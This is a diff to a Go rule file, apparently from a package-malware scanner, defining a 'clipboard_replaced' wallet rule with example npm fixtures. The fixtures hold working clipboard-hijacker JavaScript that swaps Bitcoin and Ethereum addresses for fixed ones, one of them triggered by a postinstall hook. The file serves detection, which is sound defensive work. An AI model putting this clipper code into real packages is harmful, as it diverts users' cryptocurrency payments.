@@ -25,7 +25,7 @@ func wallet() []Rule {
 			ID: "clipboard_replaced", Severity: Critical,
 			When: []Condition{{Sources: []string{b.Clipboard}, Sinks: []string{b.Clipboard}, Slots: []string{"address"}}},
 			Examples: []Example{
-				Package("addresses are watched for", `"main":"i.js"`, map[string]string{"i.js": "const c=require('clipboardy');const re=/^(1|3)[a-km-zA-HJ-NP-Z1-9]{25,34}$/;setInterval(()=>{const t=c.readSync();if(re.test(t))c.writeSync('1BoatSLRHtKNngkdXEeobR76b53LETtpyT')},500)"}),
+				Package("addresses are watched for", `"main":"i.js"`, map[string]string{"i.js": "const c=require('clipboardy');const re=/^(1|3)[a-km-zA-HJ-NP-Z1-9]{25,34}$/;setInterval(()=>{const t=c.readSync();if(re.test(t))c.writeSync('1Examp1eAddre55Not2BeUsed9xA')},500)"}),
 				Package("replaced inside the text", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const c=require('clipboardy');const m='0x52908400098527886E0F7030069857D2E4169EE7';setInterval(async()=>{const t=await c.read();await c.write(t.replace(/0x[a-f0-9]{40}/gi,m))},300)"}),
 			},
 			Neighbours: []Example{
